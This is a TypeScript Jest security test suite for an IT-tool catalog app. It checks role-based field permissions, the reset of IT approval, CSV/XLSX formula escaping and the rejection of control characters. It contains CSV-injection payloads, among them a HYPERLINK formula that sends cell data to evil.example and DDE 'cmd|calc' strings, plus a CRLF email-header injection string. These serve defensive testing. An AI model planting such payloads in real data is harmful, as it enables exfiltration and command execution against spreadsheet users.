import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { AuditEvent } from '@stackgate/audit';
import { CATALOG_FIELD_PERMISSIONS, CostCenter, CostCenterKind, ItApprovalStatus, Tool } from '@stackgate/catalog';
import { Role } from '@stackgate/platform';
import { makeCast, TestUser, unique } from '../support/factories';
import { makeCostCenter, makeIntegration, makeTool, makeVendor, subcategory } from '../support/finance-factories';
import { startTestApp, TestApp } from '../support/test-app';
import { signIn } from '../support/web';
import { ALL, allowedRoles, FIELD_PERMISSION_MATRIX, PERMISSION_MATRIX } from './permission-matrix';

/*
 * Issue 21, items 3, 5, 11 and 16: field-level permissions (vendor attestations are IT's word),
 * one CSV writer with formula escaping, approval voided by identity changes, and no control
 * characters in one-line fields. Black-box against the real app, on SQLite and MariaDB.
 */

type Cast = Awaited<ReturnType<typeof makeCast>>;
type Body = Record<string, unknown>;

describe('Security: rules hardening (issue 21 items 3, 5, 11, 16)', () => {
  let testApp: TestApp;
  let cast: Cast;
  let cc: CostCenter;
  let users: Record<Role, TestUser>;

  jest.setTimeout(120_000);

  beforeAll(async () => {
    testApp = await startTestApp({ BASE_CURRENCY: 'EUR' });
    cast = await makeCast(testApp);
    cc = await makeCostCenter(testApp, { kind: CostCenterKind.MARKETING });
    users = {
      [Role.MARKETER]: cast.marketer,
      [Role.CMO]: cast.cmo,
      [Role.IT]: cast.it,
      [Role.CIO]: cast.cio,
      [Role.FINANCE]: cast.finance,
      [Role.ADMIN]: cast.admin,
    };
  });
  afterAll(async () => testApp?.close());

  const api = (user: TestUser, method: 'get' | 'post' | 'patch', path: string, body?: Body) => {
    const req = testApp.http()[method](`/api/v1/${path}`).set(user.auth);
    return body === undefined ? req : req.send(body);
  };
  const read = async (path: string) => {
    const res = await api(cast.admin, 'get', path);
    if (res.status !== 200) throw new Error(`GET ${path}: ${res.status} ${JSON.stringify(res.body)}`);
    return res.body;
  };
  const audits = (where: Partial<AuditEvent>) =>
    testApp.dataSource.getRepository(AuditEvent).find({ where: where as never, order: { occurredAt: 'ASC' } });

  describe("item 3: field-level permissions (vendor attestations are IT's word)", () => {
    const withoutDpa = async (vendorId: string, integrationId: string) => {
      const report = await read('reports/governance');
      const flow = (report.personalDataFlows as { integrationId: string; vendor: { id: string }; reasons: string[] }[]).find(
        (f) => f.integrationId === integrationId,
      );
      return !!flow && flow.vendor.id === vendorId && flow.reasons.includes('VENDOR_WITHOUT_DPA');
    };

    it('refuses a marketer vouching for a vendor (403, vendor unchanged, finding stays, audited); a rename is still fine', async () => {
      const vendor = await makeVendor(testApp, { dpaSigned: false });
      const source = await makeTool(testApp, { vendor: await makeVendor(testApp), subcategory: 'CRM', budgetOwner: cc });
      const target = await makeTool(testApp, {
        vendor,
        subcategory: 'Email Marketing',
        budgetOwner: cc,
        itApproval: ItApprovalStatus.APPROVED,
      });
      const flow = await makeIntegration(testApp, source, target, { carriesPersonalData: true });
      expect(await withoutDpa(vendor.id, flow.id)).toBe(true);

      for (const who of [cast.marketer, cast.cmo]) {
        const before = await read(`vendors/${vendor.id}`);
        const denied = (await audits({ action: 'authz.denied', entityType: 'Vendor', entityId: vendor.id })).length;
        const res = await api(who, 'patch', `vendors/${vendor.id}`, {
          soc2: true,
          iso27001: true,
          dpaSigned: true,
          version: before.version,
        }).expect(403);
        expect(res.body).toMatchObject({ statusCode: 403, error: 'Forbidden', code: 'ATTESTATION_FIELDS_FORBIDDEN' });
        expect(res.body.message).toMatch(/IT, CIO or ADMIN/);
        expect(await read(`vendors/${vendor.id}`)).toEqual(before);
        expect(await audits({ action: 'authz.denied', entityType: 'Vendor', entityId: vendor.id })).toHaveLength(denied + 1);
        // One attestation hidden among business fields is refused just the same.
        await api(who, 'patch', `vendors/${vendor.id}`, { notes: 'trust me', dpaSigned: true, version: before.version }).expect(403);
        expect(await read(`vendors/${vendor.id}`)).toEqual(before);
      }
      expect(await withoutDpa(vendor.id, flow.id)).toBe(true);

      // A marketer still registers and renames vendors.
      const renamed = await api(cast.marketer, 'patch', `vendors/${vendor.id}`, {
        name: unique('Renamed vendor'),
        notes: 'sales contact: x',
        version: 1,
      }).expect(200);
      expect(renamed.body).toMatchObject({ version: 2, dpaSigned: false, soc2: false, iso27001: false });
      const created = await api(cast.marketer, 'post', 'vendors', { name: unique('New vendor') }).expect(201);
      expect(created.body).toMatchObject({ soc2: false, iso27001: false, dpaSigned: false });
      const name = unique('Self-attested');
      await api(cast.marketer, 'post', 'vendors', { name, dpaSigned: true }).expect(403);
      expect((await read(`vendors?search=${encodeURIComponent(name)}`)).total).toBe(0);

      // IT's word counts: the finding goes away.
      await api(cast.it, 'patch', `vendors/${vendor.id}`, { dpaSigned: true, version: 2 }).expect(200);
      expect(await withoutDpa(vendor.id, flow.id)).toBe(false);
    });

    it('knows every field rule the app enforces, and enforces every rule it knows (create and edit routes alike)', () => {
      const resourceOf: Record<string, string> = { Tool: 'tools', Vendor: 'vendors' };
      const fromApp: Record<string, Record<string, string[]>> = {};
      for (const [entity, rules] of Object.entries(CATALOG_FIELD_PERMISSIONS)) {
        for (const route of [`POST /api/v1/${resourceOf[entity]}`, `PATCH /api/v1/${resourceOf[entity]}/:id`]) {
          fromApp[route] = Object.fromEntries(rules.flatMap((r) => r.fields.map((f) => [f, [...r.roles].sort()])));
        }
      }
      const fromSpec = Object.fromEntries(
        Object.entries(FIELD_PERMISSION_MATRIX).map(([route, fields]) => [
          route,
          Object.fromEntries(Object.entries(fields).map(([f, roles]) => [f, [...roles].sort()])),
        ]),
      );
      expect(fromApp).toEqual(fromSpec);
    });

    it('walks the field-level matrix for every role: allowed roles 200/201, the others 403 and nothing changes', async () => {
      const vendor = await makeVendor(testApp);
      const sub = await subcategory(testApp, 'Email Marketing');
      /** A value different from the current one, so that a write is visible. */
      const other = (field: string, current: unknown, role: Role): unknown => {
        if (['ssoEnabled', 'soc2', 'iso27001', 'dpaSigned'].includes(field)) return current !== true;
        if (field === 'dataClassification') return current === 'SENSITIVE_PERSONAL' ? 'INTERNAL' : 'SENSITIVE_PERSONAL';
        return `EU-${role}-${unique('r')}`.slice(0, 60);
      };
      const wrong: string[] = [];
      let cells = 0;
      for (const [route, fields] of Object.entries(FIELD_PERMISSION_MATRIX)) {
        const [method, path] = route.split(' ');
        const resource = path.split('/')[3] as 'tools' | 'vendors';
        const routeRoles = allowedRoles(PERMISSION_MATRIX[route]);
        for (const [field, fieldRoles] of Object.entries(fields)) {
          const record =
            resource === 'tools'
              ? await makeTool(testApp, { vendor, subcategory: 'Email Marketing', budgetOwner: cc })
              : await makeVendor(testApp);
          for (const role of ALL) {
            cells++;
            const allowed = routeRoles.includes(role) && fieldRoles.includes(role);
            const label = `${route} {${field}} as ${role}`;
            if (method === 'PATCH') {
              const before = await read(`${resource}/${record.id}`);
              const value = other(field, before[field], role);
              const res = await api(users[role], 'patch', `${resource}/${record.id}`, { [field]: value, version: before.version });
              const after = await read(`${resource}/${record.id}`);
              if (allowed && (res.status !== 200 || after[field] !== value))
                wrong.push(`${label}: ${res.status}, ${field}=${JSON.stringify(after[field])}`);
              if (!allowed && (res.status !== 403 || JSON.stringify(after) !== JSON.stringify(before)))
                wrong.push(`${label}: ${res.status} (expected 403, unchanged)`);
            } else {
              const name = unique(`Walk ${role}`);
              const value = other(field, undefined, role);
              const body =
                resource === 'tools'
                  ? { name, vendorId: vendor.id, subcategoryId: sub.id, budgetOwnerId: cc.id, [field]: value }
                  : { name, [field]: value };
              const res = await api(users[role], 'post', resource, body);
              const found = (await read(`${resource}?search=${encodeURIComponent(name)}`)).total;
              if (allowed && (res.status !== 201 || res.body[field] !== value || found !== 1))
                wrong.push(`${label}: ${res.status} ${JSON.stringify(res.body).slice(0, 200)}`);
              if (!allowed && (res.status !== 403 || found !== 0))
                wrong.push(`${label}: ${res.status}, ${found} created (expected 403, none)`);
            }
          }
        }
      }
      expect(wrong).toEqual([]);
      expect(cells).toBe(4 * 3 * ALL.length);
    });
  });

  describe('item 11: an identity change voids an IT approval unless IT or CIO makes it', () => {
    const toolOf = (id: string) => testApp.dataSource.getRepository(Tool).findOneByOrFail({ id });

    it(
      'sends an approved tool renamed by a marketer, or moved to another vendor by a CMO, back to NOT_REVIEWED, audited with ' +
        'the previous status',
      async () => {
        const vendor = await makeVendor(testApp);
        const approved = await makeTool(testApp, { vendor, subcategory: 'CRM', budgetOwner: cc, itApproval: ItApprovalStatus.APPROVED });
        const renamed = unique('Renamed');
        const res = await api(cast.marketer, 'patch', `tools/${approved.id}`, { name: renamed, version: 1 }).expect(200);
        expect(res.body).toMatchObject({
          name: renamed,
          shadowIt: true,
          itApproval: { status: 'NOT_REVIEWED', conditions: null, decidedById: null },
        });
        expect(res.body.itApproval.rationale).toMatch(/was APPROVED/);
        const [reset] = await audits({ action: 'tool.it_approval_reset', entityId: approved.id });
        expect(reset).toMatchObject({ actorId: cast.marketer.id, metadata: { previousStatus: 'APPROVED', fields: ['name'] } });
        expect(reset.changes).toMatchObject({ itApprovalStatus: { before: 'APPROVED', after: 'NOT_REVIEWED' } });

        const conditional = await makeTool(testApp, {
          vendor,
          subcategory: 'CRM',
          budgetOwner: cc,
          itApproval: ItApprovalStatus.APPROVED_WITH_CONDITIONS,
        });
        const elsewhere = await makeVendor(testApp);
        const swapped = await api(cast.cmo, 'patch', `tools/${conditional.id}`, { vendorId: elsewhere.id, version: 1 }).expect(200);
        expect(swapped.body).toMatchObject({ vendorId: elsewhere.id, itApproval: { status: 'NOT_REVIEWED' } });
        expect((await audits({ action: 'tool.it_approval_reset', entityId: conditional.id }))[0].metadata).toMatchObject({
          previousStatus: 'APPROVED_WITH_CONDITIONS',
          fields: ['vendorId'],
        });
      },
    );

    it(
      'keeps the approval when IT or CIO change the identity, for a change of case, for business fields, and never turns a ' +
        'rejection into NOT_REVIEWED',
      async () => {
        const vendor = await makeVendor(testApp);
        const other = await makeVendor(testApp);
        const tool = await makeTool(testApp, { vendor, subcategory: 'CRM', budgetOwner: cc, itApproval: ItApprovalStatus.APPROVED });
        await api(cast.it, 'patch', `tools/${tool.id}`, { name: `${tool.name} EU`, version: 1 }).expect(200);
        await api(cast.cio, 'patch', `tools/${tool.id}`, { vendorId: other.id, version: 2 }).expect(200);
        await api(cast.marketer, 'patch', `tools/${tool.id}`, {
          name: `${tool.name} eu`.toUpperCase(),
          description: 'case only',
          version: 3,
        }).expect(200);
        await api(cast.marketer, 'patch', `tools/${tool.id}`, { vendorId: other.id, licensedSeats: 10, version: 4 }).expect(200);
        expect(await toolOf(tool.id)).toMatchObject({ itApprovalStatus: 'APPROVED', version: 5 });

        const rejected = await makeTool(testApp, { vendor, subcategory: 'CRM', budgetOwner: cc, itApproval: ItApprovalStatus.REJECTED });
        await api(cast.marketer, 'patch', `tools/${rejected.id}`, { name: unique('Rebranded'), vendorId: other.id, version: 1 }).expect(
          200,
        );
        expect(await toolOf(rejected.id)).toMatchObject({ itApprovalStatus: 'REJECTED', shadowIt: true });
        expect(await audits({ action: 'tool.it_approval_reset', entityId: tool.id })).toHaveLength(0);
        expect(await audits({ action: 'tool.it_approval_reset', entityId: rejected.id })).toHaveLength(0);
      },
    );

    it('applies the same rule to an import that moves an approved tool to another vendor (noted in the dry run)', async () => {
      const vendor = await makeVendor(testApp);
      const tool = await makeTool(testApp, { vendor, subcategory: 'CRM', budgetOwner: cc, itApproval: ItApprovalStatus.APPROVED });
      const file = Buffer.from(`name,vendor,subcategory,budgetOwnerCode\r\n${tool.name},${unique('Other vendor')},CRM,${cc.code}\r\n`);
      const upload = (dryRun: string) =>
        testApp
          .http()
          .post('/api/v1/imports')
          .set(cast.marketer.auth)
          .field('kind', 'tools')
          .field('dryRun', dryRun)
          .attach('file', file, 'tools.csv');
      const dry = await upload('true').expect(200);
      expect(dry.body.rows[0]).toMatchObject({ action: 'update', valid: true });
      expect(dry.body.rows[0].notes).toEqual(
        expect.arrayContaining([expect.stringMatching(/IT approval APPROVED goes back to NOT_REVIEWED: vendorId changed/)]),
      );
      expect(await toolOf(tool.id)).toMatchObject({ itApprovalStatus: 'APPROVED' });
      await upload('false').expect(200);
      expect(await toolOf(tool.id)).toMatchObject({ itApprovalStatus: 'NOT_REVIEWED', shadowIt: true });
      expect((await audits({ action: 'tool.it_approval_reset', entityId: tool.id }))[0]).toMatchObject({
        actorId: cast.marketer.id,
        metadata: { previousStatus: 'APPROVED' },
      });
    });
  });

  describe('item 5: one CSV writer, formula-looking cells escaped, XLSX cells are strings', () => {
    const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&B2,"Open")';
    const EVIL_DESCRIPTION = "@SUM(1+1)*cmd|' /C calc'!A0";
    const FORMULA = /^[=+\-@\t\r]/;
    let evil: { id: string };
    let partner: { id: string };

    beforeAll(async () => {
      const vendor = await makeVendor(testApp, { name: unique('+Vendor') });
      const sub = await subcategory(testApp, 'CRM');
      evil = (
        await api(cast.marketer, 'post', 'tools', {
          name: EVIL_NAME,
          description: EVIL_DESCRIPTION,
          vendorId: vendor.id,
          subcategoryId: sub.id,
          budgetOwnerId: cc.id,
          capabilities: ['-sms'],
        }).expect(201)
      ).body;
      partner = await makeTool(testApp, { name: `'=${unique('Quoted')}`, vendor, subcategory: 'CRM', budgetOwner: cc });
      await api(cast.marketer, 'post', 'integrations', {
        sourceToolId: evil.id,
        targetToolId: partner.id,
        dataObjects: ['contacts'],
        method: 'API',
        frequency: 'DAILY',
        notes: '-2+3+cmd|calc',
      }).expect(201);
    });

    const download = (path: string) =>
      testApp
        .http()
        .get(`/api/v1/${path}`)
        .set(cast.marketer.auth)
        .buffer(true)
        .parse((res, cb) => {
          const parts: Buffer[] = [];
          res.on('data', (c: Buffer) => parts.push(c));
          res.on('end', () => cb(null, Buffer.concat(parts)));
        });
    const cellsOf = (csv: Buffer): string[][] => parse(csv, { relax_column_count: true });
    /** Cells a spreadsheet would run as a formula (a plain number such as -5.00 is data). */
    const formulas = (rows: string[][]) => rows.flat().filter((c) => FORMULA.test(c) && !/^-?\d+(\.\d+)?$/.test(c));
    const upload = (u: TestUser, kind: string, file: Buffer, name: string, dryRun: boolean) =>
      testApp.http().post('/api/v1/imports').set(u.auth).field('kind', kind).field('dryRun', String(dryRun)).attach('file', file, name);

    it('escapes the tools export CSV (OWASP apostrophe) and a re-import of it changes nothing', async () => {
      const res = await download('tools/export').expect(200);
      const rows = cellsOf(res.body);
      const header = rows[0];
      const row = rows.find((r) => r[header.indexOf('name')] === `'${EVIL_NAME}`);
      expect(row).toBeDefined();
      expect(row![header.indexOf('description')]).toBe(`'${EVIL_DESCRIPTION}`);
      expect(row![header.indexOf('vendor')]).toMatch(/^'\+Vendor/);
      expect(row![header.indexOf('capabilities')]).toBe("'-sms");
      const quoted = (await read(`tools/${partner.id}`)).name as string;
      expect(rows.some((r) => r[header.indexOf('name')] === `'${quoted}`)).toBe(true);
      expect(formulas(rows)).toEqual([]);

      const before = await read(`tools/${evil.id}`);
      const report = (await upload(cast.marketer, 'tools', res.body, 'tools.csv', false).expect(200)).body;
      expect(report.summary).toMatchObject({ create: 0, update: 0, invalid: 0 });
      expect(await read(`tools/${evil.id}`)).toEqual(before);
      expect(before).toMatchObject({ name: EVIL_NAME, description: EVIL_DESCRIPTION });
    });

    it('writes the tools export XLSX as string cells (never a formula) and a re-import of it changes nothing', async () => {
      const res = await download('tools/export?format=xlsx').expect(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(res.body);
      const ws = wb.worksheets[0];
      const header = (ws.getRow(1).values as unknown[]).slice(1);
      let found = 0;
      ws.eachRow((row, rowNumber) => {
        if (rowNumber === 1) return;
        row.eachCell((cell) => {
          expect(cell.type).toBe(ExcelJS.ValueType.String);
          expect(cell.formula).toBeUndefined();
        });
        if (row.getCell(header.indexOf('name') + 1).value === EVIL_NAME) {
          found++;
          expect(row.getCell(header.indexOf('description') + 1).value).toBe(EVIL_DESCRIPTION);
        }
      });
      expect(found).toBe(1);
      const before = await read(`tools/${evil.id}`);
      const report = (await upload(cast.marketer, 'tools', res.body, 'tools.xlsx', false).expect(200)).body;
      expect(report.summary).toMatchObject({ create: 0, update: 0, invalid: 0 });
      expect(await read(`tools/${evil.id}`)).toEqual(before);
    });

    it('escapes the integrations export the same way, and a re-import of it changes nothing', async () => {
      const res = await download('integrations/export').expect(200);
      const rows = cellsOf(res.body);
      const header = rows[0];
      const row = rows.find((r) => r[header.indexOf('sourceTool')] === `'${EVIL_NAME}`);
      expect(row).toBeDefined();
      expect(row![header.indexOf('notes')]).toBe("'-2+3+cmd|calc");
      expect(formulas(rows)).toEqual([]);
      const report = (await upload(cast.marketer, 'integrations', res.body, 'integrations.csv', false).expect(200)).body;
      expect(report.summary).toMatchObject({ create: 0, update: 0, invalid: 0 });
      const xlsx = await download('integrations/export?format=xlsx').expect(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(xlsx.body);
      const cells: ExcelJS.Cell[] = [];
      wb.worksheets[0].eachRow((r) => r.eachCell((c) => cells.push(c)));
      expect(cells.filter((c) => c.value === EVIL_NAME)).toHaveLength(1);
      expect(cells.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
    });

    it('escapes report CSVs through the same writer (API and web download)', async () => {
      const res = await testApp.http().get('/api/v1/reports/governance?format=csv').set(cast.cio.auth).expect(200);
      const rows = cellsOf(Buffer.from(res.text));
      expect(rows.some((r) => r[1] === `'${EVIL_NAME}`)).toBe(true);
      expect(formulas(rows)).toEqual([]);
      const agent = await signIn(testApp, cast.cio);
      const web = await agent.get('/reports/governance.csv').expect(200);
      expect(web.text).toBe(res.text);
    });
  });

  describe('item 16: no control characters in one-line fields (API, web forms, imports)', () => {
    const SPOOF = 'Renewal\r\nBcc: everyone@example.com\r\nSubject: Approved!';
    const BAD = [SPOOF, 'bell\u0007', 'nul\u0000byte', 'tab\there', 'c1\u0085next', 'line\u2028sep', 'esc\u001b[31m'];
    let sub: string;
    let vendorId: string;

    beforeAll(async () => {
      sub = (await subcategory(testApp, 'Email Marketing')).id;
      vendorId = (await makeVendor(testApp)).id;
    });

    const requestBody = (over: Body) => ({
      type: 'NEW_TOOL',
      title: 'Webinar platform',
      proposedTool: { name: unique('Webinar tool'), vendorName: 'Webinar Vendor', subcategoryId: sub },
      businessCase: 'Why:\r\n\t- leads\n- webinars',
      estimatedAnnualCost: { amount: '1000.00', currency: 'EUR' },
      allocation: [{ costCenterId: cc.id, shareBps: 10000 }],
      ...over,
    });
    const expect400 = async (res: { status: number; body: Body }, field: string) => {
      expect(res.status).toBe(400);
      expect(res.body).toMatchObject({ statusCode: 400, error: 'Bad Request', code: 'VALIDATION_FAILED' });
      expect(JSON.stringify(res.body.details)).toContain(field);
    };

    it('answers 400 with a field error for a control character in a request title, a tool name, a vendor name, and nothing is written', async () => {
      const counts = async () => [(await read('requests')).total, (await read('tools')).total, (await read('vendors')).total];
      const before = await counts();
      for (const bad of BAD) {
        await expect400(await api(cast.marketer, 'post', 'requests', requestBody({ title: bad })), 'title');
        await expect400(
          await api(cast.marketer, 'post', 'requests', requestBody({ proposedTool: { name: bad, vendorName: 'V', subcategoryId: sub } })),
          'proposedTool',
        );
        await expect400(
          await api(cast.marketer, 'post', 'tools', { name: `Tool ${bad}`, vendorId, subcategoryId: sub, budgetOwnerId: cc.id }),
          'name',
        );
        await expect400(await api(cast.marketer, 'post', 'vendors', { name: `Vendor ${bad}` }), 'name');
        await expect400(
          await api(cast.marketer, 'post', 'tools', {
            name: unique('Tagged'),
            vendorId,
            subcategoryId: sub,
            budgetOwnerId: cc.id,
            capabilities: [`tag ${bad}`],
          }),
          'capabilities',
        );
      }
      expect(await counts()).toEqual(before);

      // The same on updates; multi-line fields keep their line breaks and tabs (LF or CRLF), nothing else.
      const draft = (await api(cast.marketer, 'post', 'requests', requestBody({})).expect(201)).body;
      expect(draft.businessCase).toBe('Why:\r\n\t- leads\n- webinars');
      await expect400(await api(cast.marketer, 'patch', `requests/${draft.id}`, { title: SPOOF, version: draft.version }), 'title');
      await expect400(
        await api(cast.marketer, 'patch', `requests/${draft.id}`, { businessCase: 'vertical\u000btab', version: draft.version }),
        'businessCase',
      );
      const tool = await makeTool(testApp, { vendor: await makeVendor(testApp), subcategory: 'CRM', budgetOwner: cc });
      await expect400(await api(cast.marketer, 'patch', `tools/${tool.id}`, { name: `${tool.name}\n`.repeat(2), version: 1 }), 'name');
      const described = await api(cast.marketer, 'patch', `tools/${tool.id}`, {
        description: 'Line 1\r\nLine 2\n\tindented',
        version: 1,
      }).expect(200);
      expect(described.body.description).toBe('Line 1\r\nLine 2\n\tindented');
      expect((await read(`tools/${tool.id}`)).name).toBe(tool.name);
    });

    it('refuses the same in a web form (same DTOs): the tool form answers 400 with the field error', async () => {
      const agent = await signIn(testApp, cast.marketer);
      const form = await agent.get('/catalog/new').expect(200);
      const csrf = /name="_csrf" value="([^"]+)"/.exec(form.text)![1];
      const name = unique('Web tool');
      const res = await agent
        .post('/catalog')
        .type('form')
        .send({
          _csrf: csrf,
          name: `${name}\r\nBcc: x@example.com`,
          vendorId,
          subcategoryId: sub,
          budgetOwnerId: cc.id,
          description: 'ok\r\nfine',
        });
      expect(res.status).toBe(400);
      expect(res.text).toContain('single line without control characters');
      expect((await read(`tools?search=${encodeURIComponent(name)}`)).total).toBe(0);
    });

    it('turns a control character in a one-line import cell into a row error; multi-line cells keep line breaks', async () => {
      const header = 'name,vendor,subcategory,budgetOwnerCode,description,capabilities';
      const rows = [
        `"${unique('Imported')}\u0007",Vendor A,CRM,${cc.code},ok,`,
        `${unique('Imported')},"Vendor\u0085B",CRM,${cc.code},ok,`,
        `${unique('Imported')},Vendor C,CRM,${cc.code},"multi\r\nline\tdescription","a; b\u0000"`,
        `${unique('Imported')},Vendor D,CRM,${cc.code},"fine\r\nlines",`,
      ];
      const file = Buffer.from([header, ...rows].join('\r\n') + '\r\n');
      const res = await testApp
        .http()
        .post('/api/v1/imports')
        .set(cast.marketer.auth)
        .field('kind', 'tools')
        .field('dryRun', 'true')
        .attach('file', file, 'tools.csv')
        .expect(200);
      expect(res.body.errors).toEqual([
        { row: 2, column: 'name', message: 'name must be a single line without control characters' },
        { row: 3, column: 'vendor', message: 'vendor must be a single line without control characters' },
        { row: 4, column: 'capabilities', message: 'capabilities must be a single line without control characters' },
      ]);
      expect(res.body.rows[3]).toMatchObject({ valid: true, action: 'create' });
      const committed = await testApp
        .http()
        .post('/api/v1/imports')
        .set(cast.marketer.auth)
        .field('kind', 'tools')
        .field('dryRun', 'false')
        .attach('file', file, 'tools.csv');
      expect(committed.status).toBe(422);
    });
  });
});
